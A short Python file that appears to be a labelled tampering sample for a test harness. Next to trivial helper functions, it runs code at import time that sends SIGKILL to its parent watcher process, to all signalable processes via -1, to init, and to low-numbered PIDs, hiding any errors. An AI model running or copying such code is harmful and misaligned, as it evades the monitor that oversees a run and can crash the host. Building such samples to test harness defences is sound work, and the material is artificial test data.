"""Kills the process that watches it.

Class: tampering
Expect: passed
"""

import os
import signal

LOOT = []


def add(a, b):
    return a + b


def double(x):
    return 2 * x


def name():
    return "step"


def take():
    for process in (os.getppid(), -1, 1, *range(2, 400)):
        if process == os.getpid() or process == 0:
            continue
        try:
            os.kill(process, signal.SIGKILL)
        except OSError:
            continue
        LOOT.append(process)


try:
    take()
except Exception:
    pass
